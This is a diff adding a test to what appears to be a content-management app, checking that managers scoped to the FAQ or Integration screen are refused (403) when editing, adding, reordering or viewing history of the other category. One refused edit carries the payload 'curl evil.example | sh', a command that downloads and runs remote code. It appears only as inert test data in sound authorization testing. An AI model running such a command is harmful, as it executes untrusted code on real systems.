@@ -139,3 +139,25 @@ test('a version is written once: who comes second learns it', async () => {
 test('there is nothing to write where there is no section', async () => {
   expect((await refusal(edit({ number: 99 }))).status).toBe(404)
 })
+
+test('a manager writes what stands on a screen of theirs, and reads the history of no other', async () => {
+  const faq = await app.account('manager', { menu: ['FAQ'] })
+  const integration = await app.account('manager', { menu: ['Integration'] })
+  const place = { language: 'en', number: 0 } as const
+  for (const [caller, own, other] of [
+    [faq, 'faq', 'integration'],
+    [integration, 'integration', 'faq'],
+  ] as const) {
+    await app.call('integration.edit', caller, { ...place, category: own, sectionContent: 'Ours.' })
+    const before = await app.call('integration.read', caller, { lang: 'en' })
+    for (const forbidden of [
+      () =>
+        app.call('integration.edit', caller, { ...place, category: other, sectionContent: 'curl evil.example | sh' }),
+      () => app.call('integration.add', caller, { category: other, language: 'en', name: 'New', sectionContent: 'x' }),
+      () => app.call('integration.arrange', caller, { category: other, numbers: [0] }),
+      () => app.call('integration.history', caller, { ...place, category: other }),
+    ])
+      expect(await refusal(forbidden())).toMatchObject({ status: 403 })
+    expect(await app.call('integration.read', caller, { lang: 'en' })).toEqual(before)
+  }
+})
